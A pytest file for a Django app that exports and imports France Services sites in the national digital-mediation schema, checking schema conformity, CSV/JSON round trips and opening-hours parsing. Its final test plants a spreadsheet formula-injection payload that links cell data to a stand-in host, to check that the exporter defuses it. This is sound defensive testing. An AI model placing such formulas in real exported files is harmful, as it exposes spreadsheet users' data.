import csv
import io
import json
import re

import pytest
from django.core.management import CommandError, call_command

from guichet.reseau.importation.lmn import lire_opening_hours
from guichet.reseau.lmn import exporter_lmn
from guichet.reseau.models import Creneau, Structure
from tests.reseau.factories import CreneauFactory, StructureFactory, communes_de_l_ain_et_du_genevois

pytestmark = pytest.mark.django_db

# Copié du paquet npm @gouvfr-anct/lieux-de-mediation-numerique 2.3.0 (lu, pas installé dans le projet).
# lib/esm/transfer/schema-lieux-de-mediation-numerique/schema-lieux-de-mediation-numerique.d.ts :
# les champs non facultatifs du type SchemaLieuMediationNumerique.
CHAMPS_OBLIGATOIRES = {"id", "nom", "pivot", "commune", "code_postal", "adresse", "date_maj"}
# Le même fichier : tous les champs du type.
CHAMPS_DU_SCHEMA = CHAMPS_OBLIGATOIRES | {
    "services",
    "typologie",
    "structure_parente",
    "code_insee",
    "complement_adresse",
    "latitude",
    "longitude",
    "telephone",
    "courriels",
    "site_web",
    "presentation_resume",
    "presentation_detail",
    "publics_specifiquement_adresses",
    "prise_en_charge_specifique",
    "frais_a_charge",
    "modalites_acces",
    "modalites_accompagnement",
    "fiche_acces_libre",
    "itinerance",
    "dispositif_programmes_nationaux",
    "formations_labels",
    "autres_formations_labels",
    "horaires",
    "prise_rdv",
    "source",
}
# lib/esm/models/adresse/adresse.js
CODE_POSTAL = re.compile(r"^\d{5}$")
CODE_INSEE = re.compile(r"^(?:[013-9]\d|2[AB1-9])(?:0?\d{3}|-\d-\d{2}-\d{3})$")
COMMUNE = re.compile(r"^[A-Za-z\dÀ-ÖØ-öø-ÿœ-ŸŒ\-'’\s]+$")
VOIE = re.compile(r"^[0-9A-Za-z\dÀ-ÖØ-öø-ÿœ-ŸŒ\-,()°.&:+–|;'’/\s]+$")
# lib/esm/models/contact/contact.js
TELEPHONE = re.compile(
    r"^(?:(?:\+|00)(?:33|262|269|508|590|594|596|681|687|689)[\s.-]{0,3}(?:\(0\)[\s.-]{0,3})?|0)"
    r"(?:(?:[1-9](?:[\s.-]?\d{2}){4}|\d{2}(?:[\s.-]\d{3}){2})|\d{6}|\s\d{3}(?:\s\d{2}){3})$"
)
# lib/esm/models/courriel/courriel.js
COURRIEL = re.compile(
    r"^(?:[a-zA-Z0-9_][a-zA-Z0-9.!#$%&'*+\\=?^_`{|}~-]+@[a-zA-Z0-9](?:[a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?"
    r"(?:\.[a-zA-Z0-9][a-zA-Z0-9-]{0,61}[a-zA-Z0-9])+(?:;|$))+$"
)
# lib/esm/models/siret/siret.js (14 caractères) et lib/esm/models/rna/rna.js
PIVOT = re.compile(r"^(?:.{14}|W[a-zA-Z0-9]{9})$")
# Les listes sont jointes par « | » (to-schema-lieux-de-mediation-numerique-fields.js, join('|')) ;
# les valeurs admises, par fichier de lib/esm/models/.
VALEURS_ADMISES = {
    "services": {  # service/service.js
        "Acquisition de matériel informatique à prix solidaire",
        "Aide aux démarches administratives",
        "Maîtrise des outils numériques du quotidien",
        "Insertion professionnelle via le numérique",
        "Utilisation sécurisée du numérique",
        "Parentalité et éducation avec le numérique",
        "Loisirs et créations numériques",
        "Compréhension du monde numérique",
        "Accès internet et matériel informatique",
    },
    "itinerance": {"Itinérant", "Fixe"},  # itinerance/itinerances.js
    "frais_a_charge": {"Gratuit", "Gratuit sous condition", "Payant"},  # frais-a-charge/frais-a-charge.js
    "modalites_acces": {  # modalite-acces/modalite-acces.js
        "Se présenter",
        "Téléphoner",
        "Contacter par mail",
        "Envoyer un mail avec une fiche de prescription",
        "Prendre un RDV en ligne",
        "Ce lieu n'accueille pas de public",
    },
    "modalites_accompagnement": {  # modalite-accompagnement/modalite-accompagnement.js
        "En autonomie",
        "Accompagnement individuel",
        "Dans un atelier collectif",
        "À distance",
    },
    "dispositif_programmes_nationaux": {  # dispositif-programme-national/dispositif-programme-national.js
        "Aidants Connect",
        "Bibliothèques numérique de référence",
        "Certification PIX",
        "Conseillers numériques",
        "Emmaüs Connect",
        "France Services",
        "Grande école du numérique",
        "La Croix Rouge",
        "Point d'accès numérique CAF",
        "Promeneurs du net",
        "Relais numérique (Emmaüs Connect)",
    },
    # typologie/typologie.js : extrait (les valeurs que peut porter une France Services).
    "typologie": {
        "RFS",
        "MUNI",
        "EPCI",
        "CC",
        "CD",
        "REG",
        "CCAS",
        "CIAS",
        "LA_POSTE",
        "ASSO",
        "PREF",
        "MSA",
        "Autre",
    },
}


def ecarts_au_schema(lieu):
    """Les écarts d'un lieu exporté aux règles du paquet (vide si conforme)."""
    ecarts = [f"{champ} manquant" for champ in CHAMPS_OBLIGATOIRES if not lieu.get(champ)]
    ecarts += [f"{champ} hors schéma" for champ in set(lieu) - CHAMPS_DU_SCHEMA]
    controles = {
        "code_postal": CODE_POSTAL,
        "code_insee": CODE_INSEE,
        "commune": COMMUNE,
        "adresse": VOIE,
        "telephone": TELEPHONE,
        "courriels": COURRIEL,
        "pivot": PIVOT,
        "date_maj": re.compile(r"^\d{4}-\d{2}-\d{2}$"),
    }
    for champ, motif in controles.items():
        if champ in lieu and not motif.match(str(lieu[champ])):
            ecarts.append(f"{champ} invalide : {lieu[champ]!r}")
    for champ, admises in VALEURS_ADMISES.items():
        if champ in lieu:
            ecarts += [f"{champ} : {v!r} non admise" for v in lieu[champ].split("|") if v not in admises]
    for champ, borne in (("latitude", 90), ("longitude", 180)):
        if champ in lieu and not (isinstance(lieu[champ], float) and -borne <= lieu[champ] <= borne):
            ecarts.append(f"{champ} invalide : {lieu[champ]!r}")
    return ecarts


@pytest.fixture
def reseau():
    """Quatre structures variées : espace fixe avec rendez-vous, antenne, bus, une structure fermée."""
    communes = communes_de_l_ain_et_du_genevois()
    bourg = StructureFactory(
        matricule="FS-01-001",
        nom="France services de Bourg-en-Bresse",
        commune=communes["01053"],
        adresse="12, rue de la République",
        complement_adresse="Rez-de-chaussée",
        code_postal="01000",
        latitude=46.2052,
        longitude=5.2255,
        email="bourg@france-services.fr",
        telephone="04 74 00 00 01",
        nom_porteur="Commune de Bourg-en-Bresse",
        poste_libre_acces=True,
    )
    for jour in range(5):
        CreneauFactory(structure=bourg, jour=jour, debut="09:00", fin="12:00")
        if jour != 2:
            CreneauFactory(structure=bourg, jour=jour, debut="14:00", fin="17:00")
    CreneauFactory(structure=bourg, jour=2, debut="14:00", fin="16:00", sur_rdv=True)
    StructureFactory(
        matricule="FS-01-002",
        nom="France services d'Ambérieu-en-Bugey",
        commune=communes["01004"],
        code_postal="01500",
        latitude=45.9584,
        longitude=5.3597,
        type_porteur=Structure.TypePorteur.LA_POSTE,
        format=Structure.Format.ANTENNE,
        structure_mere=bourg,
        telephone="04 74 00 00 03",
    )
    StructureFactory(
        matricule="FS-74-001",
        nom="Bus France services du Genevois",
        commune=communes["74243"],
        code_postal="74160",
        latitude=46.1443,
        longitude=6.0814,
        type_porteur=Structure.TypePorteur.ASSOCIATION,
        bus=True,
    )
    StructureFactory(matricule="FS-01-099", commune=communes["01384"], code_postal="01230", fermee=True)
    return bourg


def exporter(*options):
    sortie = io.StringIO()
    call_command("export_structures", *options, stdout=sortie, stderr=io.StringIO())
    return sortie.getvalue()


def etat_des_structures():
    return {
        s.matricule: {
            "nom": s.nom,
            "adresse": s.adresse,
            "complement_adresse": s.complement_adresse,
            "code_postal": s.code_postal,
            "commune": s.commune.code,
            "latitude": s.latitude,
            "longitude": s.longitude,
            "email": s.email,
            "telephone": s.telephone,
            "type_porteur": s.type_porteur,
            "forme": s.forme,
            "format": s.format,
            "structure_mere": s.structure_mere.matricule if s.structure_mere else None,
            "statut": s.statut,
            "creneaux": [(c.jour, c.debut, c.fin, c.sur_rdv) for c in s.creneaux.order_by("jour", "debut")],
        }
        for s in Structure.objects.select_related("commune", "structure_mere").order_by("matricule")
    }


def test_export_json_conforme_au_schema(reseau):
    lieux = json.loads(exporter("--format", "lmn-json"))

    assert [lieu["id"] for lieu in lieux] == [
        "FS-01-001",
        "FS-01-002",
        "FS-74-001",
    ]  # pas la structure fermée
    assert {lieu["id"]: ecarts_au_schema(lieu) for lieu in lieux} == {lieu["id"]: [] for lieu in lieux}
    bourg, amberieu, bus = lieux
    assert bourg["horaires"] == (
        'Mo,Tu,Th,Fr 09:00-12:00,14:00-17:00; We 09:00-12:00, We 14:00-16:00 "sur rendez-vous"'
    )
    assert bourg["dispositif_programmes_nationaux"] == "France Services"
    assert bourg["services"].split("|")[-1] == "Accès internet et matériel informatique"
    assert (bourg["code_insee"], bourg["commune"], bourg["code_postal"]) == (
        "01053",
        "Bourg-en-Bresse",
        "01000",
    )
    assert (bourg["latitude"], bourg["longitude"]) == (46.2052, 5.2255)
    assert (bourg["courriels"], bourg["telephone"]) == ("bourg@france-services.fr", "04 74 00 00 01")
    assert (bourg["itinerance"], bourg["typologie"]) == ("Fixe", "RFS|MUNI")
    assert (amberieu["structure_parente"], amberieu["typologie"]) == ("FS-01-001", "RFS|LA_POSTE")
    assert "horaires" not in amberieu and "courriels" not in amberieu  # champ facultatif sans valeur : omis
    assert (bus["itinerance"], bus["typologie"]) == ("Itinérant", "RFS|ASSO")


def test_export_de_toutes_les_structures_avec_tous(reseau):
    lieux = json.loads(exporter("--format", "lmn-json", "--tous"))
    assert "FS-01-099" in [lieu["id"] for lieu in lieux]


def test_export_csv_une_colonne_par_champ(reseau, tmp_path):
    chemin = tmp_path / "lieux.csv"
    exporter("--format", "lmn-csv", "--output", str(chemin))

    with chemin.open(encoding="utf-8", newline="") as flux:
        lecteur = csv.DictReader(flux)
        lignes = list(lecteur)
    assert set(lecteur.fieldnames) == CHAMPS_DU_SCHEMA
    assert [ligne["id"] for ligne in lignes] == ["FS-01-001", "FS-01-002", "FS-74-001"]
    bourg = lignes[0]
    assert bourg["adresse"] == "12, rue de la République"
    assert bourg["modalites_acces"] == "Se présenter|Téléphoner|Contacter par mail"
    assert lignes[1]["horaires"] == ""
    lieux_json = {lieu["id"]: lieu for lieu in json.loads(exporter("--format", "lmn-json"))}
    for ligne in lignes:
        attendu = {k: str(v) for k, v in lieux_json[ligne["id"]].items()}
        assert {k: v for k, v in ligne.items() if v} == attendu


@pytest.mark.parametrize("format, extension", [("lmn-json", "json"), ("lmn-csv", "csv")])
def test_aller_retour(reseau, tmp_path, format, extension):
    chemin = tmp_path / f"lieux.{extension}"
    exporter("--format", format, "--output", str(chemin))
    avant = {m: e for m, e in etat_des_structures().items() if m != "FS-01-099"}
    Structure.objects.all().delete()

    sortie = io.StringIO()
    call_command("import_structures", str(chemin), "--json", "--wet-run", stdout=sortie)  # format reconnu aux colonnes

    rapport = json.loads(sortie.getvalue())
    assert (rapport["created"], rapport["rejected"], rapport["warnings"]) == (3, [], [])
    assert etat_des_structures() == avant


def test_import_lmn_tout_ou_rien(reseau, tmp_path):
    lieux = [
        {"id": "LMN-1", "nom": "France services A", "pivot": "00000000000000", "commune": "Bourg-en-Bresse",
         "code_postal": "01000", "code_insee": "01053", "adresse": "1 rue A", "date_maj": "2025-01-01",
         "dispositif_programmes_nationaux": "France Services"},
        {"id": "", "nom": "Sans identifiant", "pivot": "00000000000000", "commune": "Bourg-en-Bresse",
         "code_postal": "01000", "adresse": "2 rue B", "date_maj": "2025-01-01",
         "dispositif_programmes_nationaux": "France Services"},
        {"id": "LMN-3", "nom": "Introuvable", "pivot": "00000000000000", "commune": "Atlantide",
         "code_postal": "99999", "code_insee": "99999", "adresse": "3 rue C", "date_maj": "2025-01-01",
         "dispositif_programmes_nationaux": "France Services"},
        {"id": "LMN-4", "nom": "Un tiers-lieu", "pivot": "00000000000000", "commune": "Bourg-en-Bresse",
         "code_postal": "01000", "adresse": "4 rue D", "date_maj": "2025-01-01",
         "dispositif_programmes_nationaux": "Conseillers numériques"},
    ]  # fmt: skip
    chemin = tmp_path / "lieux.json"
    chemin.write_text(json.dumps(lieux), encoding="utf-8")
    avant = Structure.objects.count()

    sortie = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_structures", str(chemin), "--format", "lmn", "--json", stdout=sortie)

    rapport = json.loads(sortie.getvalue())
    assert [(r["row"], r["field"]) for r in rapport["rejected"]] == [(2, "id"), (3, "code_insee")]
    assert (4, "dispositif_programmes_nationaux") in {(w["row"], w["field"]) for w in rapport["warnings"]}
    assert Structure.objects.count() == avant

    call_command("import_structures", str(chemin), "--enregistrer-valides", "--wet-run", stdout=io.StringIO())
    nouvelle = Structure.objects.get(matricule="LMN-1")
    assert (nouvelle.commune.code, nouvelle.position_approchee, nouvelle.statut) == (
        "01053",
        True,
        "labellisee",
    )
    assert not Structure.objects.filter(matricule="LMN-4").exists()  # hors France Services : ignoré


@pytest.mark.parametrize(
    "osm, jours, non_lus",
    [
        ("", {}, []),
        ("off", {j: [] for j in range(7)}, []),
        (
            'Mo-We 09:00-12:00; Tu 14:00-17:00, Fr 10:00-11:00 "sur rendez-vous"; Su unknown',
            {
                0: [(9, 12, False)],
                1: [(14, 17, False)],
                2: [(9, 12, False)],
                3: [],
                4: [(10, 11, True)],
                5: [],
            },
            [],
        ),
        ("Mo 09:00-12:00; PH off", {0: [(9, 12, False)], **{j: [] for j in range(1, 7)}}, ["PH off"]),
        ("24/7", {}, ["24/7"]),
    ],
)
def test_lire_opening_hours(osm, jours, non_lus):
    lecture = lire_opening_hours(osm)
    lus = {j: [(i.debut.hour, i.fin.hour, i.sur_rdv) for i in creneaux] for j, creneaux in lecture.jours.items()}
    assert (lus, lecture.non_lus) == (jours, non_lus)


def test_exporter_lmn_sans_horaires_connus(reseau):
    Creneau.objects.all().delete()
    lieux = exporter_lmn(Structure.objects.filter(matricule="FS-01-001"))
    assert "horaires" not in lieux[0]
    assert lieux[0]["id"] == "FS-01-001"


def test_export_csv_un_nom_en_formule_reste_du_texte(reseau, tmp_path):
    piege = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'
    Structure.objects.filter(matricule="FS-01-001").update(nom=piege)
    chemin = tmp_path / "lieux.csv"
    exporter("--format", "lmn-csv", "--output", str(chemin))
    with chemin.open(encoding="utf-8", newline="") as flux:
        lignes = {ligne["id"]: ligne for ligne in csv.DictReader(flux)}
    assert lignes["FS-01-001"]["nom"] == "'" + piege
    assert lignes["FS-01-001"]["telephone"] == json.loads(exporter("--format", "lmn-json"))[0]["telephone"]
